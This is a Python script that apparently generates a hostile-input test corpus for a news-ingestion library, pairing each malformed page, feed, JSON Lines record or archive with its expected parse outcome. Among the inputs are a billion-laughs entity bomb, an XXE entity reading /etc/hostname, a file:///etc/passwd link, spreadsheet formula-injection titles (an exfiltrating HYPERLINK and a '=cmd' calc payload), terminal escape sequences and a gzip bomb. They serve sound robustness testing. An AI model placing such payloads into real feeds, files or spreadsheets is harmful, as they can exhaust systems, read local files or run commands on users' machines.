#!/usr/bin/env python3
"""The hostile-input corpus (issue 14): every input and the outcome it must get.

    python3 tests/hostile_inputs/generate.py            # rewrite the small files and expected.toml
    python3 tests/hostile_inputs/generate.py --large DIR  # also write the large ones into DIR

Small inputs are kept as files beside this script (reviewable in a diff); large ones
(pages of megabytes, a gzip bomb, sentences of thousands of words) are written by
`write_large` into a temporary folder when the test runs. Every text here is invented.
The outcome is a skip reason, "ok" (a document record is written), or a list of them for
an input that holds several documents.
"""
from __future__ import annotations

import argparse
import gzip
import io
import json
import sys
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

P = ("Officials from Azerbaijan and Kazakhstan resumed talks on Caspian transit routes in Baku on Monday, "
     "the foreign ministry said. The next round is planned for the spring, according to the statement.")
LONG = " ".join([P] * 12)  # above a feed's full-text threshold
ARTICLE = f"<p>{P}</p><p>{P.replace('Monday', 'Tuesday')}</p><p>{P.replace('Baku', 'Astana')}</p>"


def page(body: str, head: str = "<title>Transit talks resume</title>", doctype: str = "<!doctype html>") -> bytes:
    return f"{doctype}<html><head>{head}</head><body><article>{body}</article></body></html>".encode()


def rss(items: str, prolog: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return f'{prolog}<rss version="2.0"><channel><title>Wire</title><link>https://wire.example/</link>{items}</channel></rss>'.encode()


def item(title: str, description: str, link: str | None = "https://wire.example/a/1") -> str:
    link_xml = f"<link>{link}</link>" if link else ""
    return f"<item><title>{title}</title>{link_xml}<description>{description}</description></item>"


def jsonl(*records: object) -> bytes:
    return "".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in records).encode()


def small() -> dict[str, tuple[bytes, str | list[str]]]:
    """name -> (content, expected outcome)."""
    esc_title = "<title>Talks\x1b]0;renamed\x07\x1b[2J\x1b[31m resume</title>"
    cases: dict[str, tuple[bytes, str | list[str]]] = {
        # declared encodings that are not text encodings, or not known
        "charset-base64.html": (page(ARTICLE, '<meta charset="base64"><title>T</title>'), "ok"),
        "charset-undefined.html": (page(ARTICLE, '<meta http-equiv="Content-Type" content="text/html; charset=undefined">'), "ok"),
        "charset-utf7.html": (page(ARTICLE, '<meta charset="utf-7">'), "ok"),
        "charset-utf32-lie.html": (page(ARTICLE, '<meta charset="utf-32">'), "ok"),
        "charset-hex-escape.html": (page(ARTICLE, '<meta charset="\\x00\\xff">'), "ok"),
        "xml-decl-bogus-encoding.html": (page(ARTICLE, doctype='<?xml version="1.0" encoding="x-no-such"?>'), "ok"),
        "utf16le-bom.txt": (("\ufeff" + P).encode("utf-16-le"), "ok"),
        "utf8-cut-mid-char.txt": ((P + " Талк").encode()[:-1], "ok"),
        "only-bom.txt": (b"\xef\xbb\xbf", "no-text"),
        "cp1251-declared-utf8.html": (page(ARTICLE + "<p>Москва и Баку провели переговоры.</p>", '<meta charset="utf-8">').replace(
            "Москва и Баку провели переговоры.".encode(), "Москва и Баку провели переговоры.".encode("cp1251")), "ok"),
        # markup that is broken, deep, or built to be slow
        "fragment-p.html": (f"<p>{P}</p>".encode(), "ok"),
        "fragment-div-list.html": (f"<div><ul><li>{P}</li><li>{P}</li></ul></div>".encode(), "ok"),
        "unclosed-everything.html": (f"<html><body><div><p>{P}<p>{P}<b><i><div>".encode(), "ok"),
        "nested-divs-5000.html": (page("<div>" * 5000 + ARTICLE + "</div>" * 5000), "no-text"),  # past the parser's depth limit
        "nested-inline-20000.html": (page("<b>" * 20000 + ARTICLE), "no-text"),
        "lt-run-50k.html": (page(ARTICLE + "<" * 50000), "ok"),
        "lt-run-in-attr.html": (page(f'<p title="{"<" * 30000}">{P}</p>' + ARTICLE), "ok"),
        "unclosed-comment.html": (page("<!-- " + ARTICLE), "no-text"),
        "unclosed-script.html": (page("<script>var x = 1;" + ARTICLE), "no-text"),
        "script-only.html": (page("<script>" + "var a = 1;" * 500 + "</script>"), "no-text"),
        "style-only.html": (page("<style>" + "p{color:red}" * 500 + "</style>"), "no-text"),
        "cdata-in-html.html": (page("<![CDATA[" + P + "]]>" + ARTICLE), "ok"),
        "bad-numeric-refs.html": (page(ARTICLE + "<p>&#0; &#xD800; &#1114112; &#99999999999999999999; &#x110000;</p>"), "ok"),
        "named-entity-storm.html": (page(ARTICLE + "<p>" + "&amp;&lt;&gt;&nbsp;&bogus;" * 400 + "</p>"), "ok"),
        "processing-instructions.html": (page("<?php echo 1; ?>" * 200 + ARTICLE), "ok"),
        "svg-script.html": (page('<svg><script>alert(1)</script><text>chart</text></svg>' + ARTICLE), "ok"),
        "meta-refresh-private.html": (page(ARTICLE, '<meta http-equiv="refresh" content="0;url=http://127.0.0.1/admin">'), "ok"),
        "base-href-file.html": (page(ARTICLE, '<base href="file:///etc/">'), "ok"),
        "huge-attribute.html": (page(f'<p data-x="{"x" * 200000}">{P}</p>' + ARTICLE), "ok"),
        "many-attributes.html": (page("<p " + " ".join(f"a{i}=1" for i in range(5000)) + f">{P}</p>" + ARTICLE), "ok"),
        "table-soup.html": (page("<table>" + "<tr><td>1</td><td>2</td></tr>" * 400 + "</table>" + ARTICLE), "ok"),
        "jsonld-deep.html": (page(ARTICLE, '<script type="application/ld+json">' + "[" * 20000 + "]" * 20000 + "</script>"), "ok"),
        "jsonld-deep-objects.html": (page(ARTICLE, '<script type="application/ld+json">' + '{"@graph":' * 3000 + "{}" + "}" * 3000 + "</script>"), "ok"),
        "jsonld-garbage.html": (page(ARTICLE, '<script type="application/ld+json">{"headline": "T", "author": [1, null, {"name": 5}], "datePublished": {"x": 1}}</script>'), "ok"),
        "jsonld-bad-date.html": (page(ARTICLE, '<script type="application/ld+json">{"@type":"NewsArticle","datePublished":"99999-99-99T99:99"}</script>'), "ok"),
        "meta-date-nonsense.html": (page(ARTICLE, '<meta property="article:published_time" content="0000-00-00T25:61:61+99:99">'), "ok"),
        "title-terminal-escapes.html": (page(ARTICLE, esc_title), "ok"),
        "title-formula.html": (page(ARTICLE, '<title>=HYPERLINK("http://collect.example/?q="&amp;A1,"open")</title>'), "ok"),
        "title-rich-markup.html": (page(ARTICLE, "<title>[/b] closing [bold red]what was never opened[/]</title>"), "ok"),
        "bidi-override.html": (page(ARTICLE.replace("Baku", "\u202eukaB\u202c")), "ok"),
        "zalgo.html": (page(ARTICLE + "<p>" + ("T\u0300\u0301\u0302\u0303\u0304" * 2000) + "</p>"), "ok"),
        "one-long-word.html": (page(ARTICLE + "<p>" + "transit" * 20000 + "</p>"), "ok"),
        "long-sentence-2k-words.txt": (("Reports said that " + ", and ".join(
            f"officials in {c} met envoys from {d} on Monday" for c, d in [("Baku", "Astana"), ("Yerevan", "Tbilisi")] * 150) + ".").encode(), "ok"),
        "many-short-lines.txt": (("\n".join(["Baku."] * 20000) + "\n" + P).encode(), "ok"),
        "newlines-only.txt": (b"\n\r\n" * 5000, "empty"),
        "control-chars.txt": ((P + "\x07\x08\x1b[31m" * 50).encode(), "binary"),
        "emoji-only.txt": (("\U0001F600\U0001F4A5" * 300).encode(), "no-text"),
        "digits-only.txt": (("1234567890 " * 300).encode(), "no-text"),
        "private-use.txt": (("\ue000\uf8ff" * 300 + " " + P).encode(), "ok"),
        # feeds
        "feed-charref-too-big.rss": (rss(item("Talks &#1114112;", LONG + " &#1114112;")), "ok"),
        "feed-charref-surrogate.rss": (rss(item("Talks &#xD800;", LONG + " &#xDFFF;")), "ok"),
        "feed-fragment-item.rss": (rss(item("Talks", f"&lt;p&gt;{LONG}&lt;/p&gt;")), "ok"),
        "feed-plain-text-item.rss": (rss(item("Talks", LONG)), "ok"),
        "feed-no-items.rss": (rss(""), "bad-feed"),
        "feed-item-private-link.rss": (rss(item("Short", "teaser", "http://127.0.0.1/secret")), "private-address"),
        "feed-item-no-link.rss": (rss(item("Short", "teaser", None)), "no-text"),
        "feed-item-bad-scheme.rss": (rss(item("Short", "teaser", "file:///etc/passwd")), "invalid-url"),
        "feed-billion-laughs.rss": (rss(item("&lol9;", LONG), '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol">'
                                        + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
                                        + "]>"), "ok"),
        "feed-external-entity.rss": (rss(item("&xxe;", LONG), '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'), "ok"),
        "feed-lt-run.rss": (rss(item("Talks", "&lt;" * 40000 + " " + LONG)), "ok"),
        "feed-deep-nesting.rss": (rss("<x>" * 5000 + item("Talks", LONG) + "</x>" * 5000), "ok"),
        "feed-cut.atom": (b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><entry><title>T', "no-text"),
        # JSON Lines
        "jsonl-bom.jsonl": (b"\xef\xbb\xbf" + jsonl({"id": "bom-1", "text": P}), "ok"),
        "jsonl-lone-surrogate.jsonl": (jsonl('{"id": "sur-1", "text": "Talks \\ud800 resumed in Baku on Monday."}'), "ok"),
        "jsonl-fragment.jsonl": (jsonl({"id": "frag-1", "html": f"<p>{P}</p>"}), "ok"),
        "jsonl-deep.jsonl": (jsonl('{"id": "deep", "text": ' + "[" * 100000 + "]" * 100000 + "}", {"id": "after-deep", "text": P}),
                             ["bad-json", "ok"]),
        "jsonl-wrong-types.jsonl": (jsonl({"id": 5, "text": 7}, {"id": "t", "text": P, "authors": "one"}), ["bad-json", "bad-json"]),
        "jsonl-unknown-key.jsonl": (jsonl({"id": "u", "text": P, "surprise": True}), "ok"),
        "jsonl-huge-number.jsonl": (jsonl('{"id": "n", "text": "T", "published": 1e999}', '{"id": 1' + "0" * 5000 + ', "text": "x"}'),
                                    ["bad-json", "bad-json"]),
        "jsonl-nan.jsonl": (jsonl('{"id": NaN, "text": "x"}'), "bad-json"),
        "jsonl-null-content.jsonl": (jsonl({"id": "nul", "html": None, "text": None}), "bad-json"),
        "jsonl-empty-text.jsonl": (jsonl({"id": "e", "text": "   "}), "empty"),
        "jsonl-crlf.jsonl": (jsonl({"id": "crlf", "text": P}).replace(b"\n", b"\r\n"), "ok"),
        "jsonl-utf16.jsonl": (("\ufeff" + json.dumps({"id": "w", "text": P}) + "\n").encode("utf-16-le"), ["bad-json", "bad-json"]),
        "jsonl-top-level-array.jsonl": (jsonl([1, 2, 3], "null", '"just a string"'), ["bad-json"] * 3),
        "jsonl-duplicate-ids.jsonl": (jsonl({"id": "dup", "text": P}, {"id": "dup", "text": P.replace("Baku", "Astana")},
                                            {"id": "other", "text": P.replace("Monday", "Friday")}), ["ok", "duplicate-id", "ok"]),
        "jsonl-html-script-only.jsonl": (jsonl({"id": "s", "html": "<script>alert(1)</script>"}), "no-text"),
        "jsonl-control-in-title.jsonl": (jsonl({"id": "ctl", "text": P, "title": "\x1b[2J=cmd|' /C calc'!A0"}), "ok"),
        # binary and containers
        "zip-named-page.html": (b"PK\x03\x04" + bytes(range(256)) * 8, "binary"),
        "png-named-text.txt": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "binary"),
        "elf-named-page.html": (b"\x7fELF\x02\x01\x01" + b"\x00" * 2000, "binary"),
        "gzip-of-gzip.html.gz": (gzip.compress(gzip.compress(page(ARTICLE))), "binary"),
        "gzip-garbage-tail.html.gz": (gzip.compress(page(ARTICLE)) + b"\x00junk", "bad-gzip"),
        "warc-junk.warc": (b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999\r\n\r\nshort", "truncated"),
        "warc-not-warc.warc.gz": (gzip.compress(b"this is no archive at all\n" * 20), "truncated"),
        "pdf-named-page.html": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 4, "binary"),
    }
    return cases


def write_small(folder: Path = FILES) -> dict[str, str | list[str]]:
    folder.mkdir(parents=True, exist_ok=True)
    expected = {}
    for name, (data, outcome) in small().items():
        (folder / name).write_bytes(data)
        expected[name] = outcome
    return expected


# --- large inputs: written at test time --------------------------------------------------

def write_large(folder: Path) -> dict[str, str | list[str]]:
    """Write the large inputs into `folder`; returns name -> expected outcome."""
    from dyadwatch.readers import MAX_INPUT_BYTES

    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, str | list[str]] = {}

    def put(name: str, data: bytes, outcome: str | list[str]) -> None:
        (folder / name).write_bytes(data)
        out[name] = outcome

    cap = MAX_INPUT_BYTES
    put("page-just-under-cap-tiny-elements.html", page("<i>a</i>" * ((cap - 2000) // 8) + ARTICLE), "too-complex")
    put("page-just-under-cap-lt-run.html", page(ARTICLE + "<" * (cap - 2000)), "ok")
    put("page-just-under-cap-nested.html", page("<div>" * ((cap - 2000) // 5) + ARTICLE), "no-text")
    put("page-over-cap.html", page(ARTICLE + "<p>" + "x " * (cap // 2 + 10) + "</p>"), "too-large")
    put("text-just-under-cap.txt", ((P + "\n\n") * ((cap - 1000) // (len(P) + 2))).encode(), "ok")
    put("long-sentence-8k-words.txt", long_sentence(8000).encode(), "ok")
    put("long-sentence-no-space-2m.txt", ("transit" * (300_000)).encode(), "no-text")
    put("gzip-bomb.html.gz", gzip_bomb(1024 * 1024 * 1024), "too-large")
    put("jsonl-line-over-cap.jsonl", jsonl({"id": "big", "text": "x " * (cap // 2 + 10)}, {"id": "small", "text": P}),
        ["too-large", "ok"])
    put("jsonl-deep-2m.jsonl", jsonl('{"id": "d", "text": ' + "[" * 1_000_000 + "]" * 1_000_000 + "}"), "bad-json")
    put("feed-200-teasers.rss", rss("".join(item(f"Item {i}", "teaser", None) for i in range(200))), ["no-text"] * 200)
    put("feed-item-lt-run.rss", rss(item("Talks", "&lt;" * (cap // 32) + " " + LONG)), "ok")
    put("many-paragraphs-article.html", page(ARTICLE * 400), "ok")
    put("warc-cut-mid-page.warc.gz", cut_warc(), "truncated")
    return out


def long_sentence(words: int) -> str:
    clauses, count, k = [], 0, 0
    places = ["Baku", "Astana", "Yerevan", "Tbilisi", "Ankara", "Moscow"]
    while count < words:
        clause = f"officials in {places[k % 6]} met envoys from {places[(k + 2) % 6]} on Monday"
        clauses.append(clause)
        count += len(clause.split()) + 1
        k += 1
    return "Reports said that " + ", and ".join(clauses) + "."


def gzip_bomb(size: int) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\0" * (1 << 20)
    parts = [comp.compress(chunk) for _ in range(size >> 20)]
    parts.append(comp.flush())
    return b"".join(parts)


def cut_warc() -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=True)
    body = page(ARTICLE * 50)
    headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
    writer.write_record(writer.create_warc_record("https://news.example/1", "response", payload=io.BytesIO(body),
                                                  length=len(body), http_headers=headers))
    return buf.getvalue()[: len(buf.getvalue()) // 2]


def write_manifest(expected: dict[str, str | list[str]]) -> None:
    lines = ["# Hostile inputs and the outcome each must get (tests/test_hostile_corpus.py).",
             "# Written by generate.py, which is the source: edit it, not this file.", "", "[files]"]
    for name, outcome in sorted(expected.items()):
        lines.append(f"{json.dumps(name)} = {json.dumps(outcome)}")
    (HERE / "expected.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--large", type=Path, help="also write the large inputs into this folder")
    args = ap.parse_args()
    write_manifest(write_small())
    if args.large:
        for name, outcome in write_large(args.large).items():
            print(f"{name}: {outcome}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
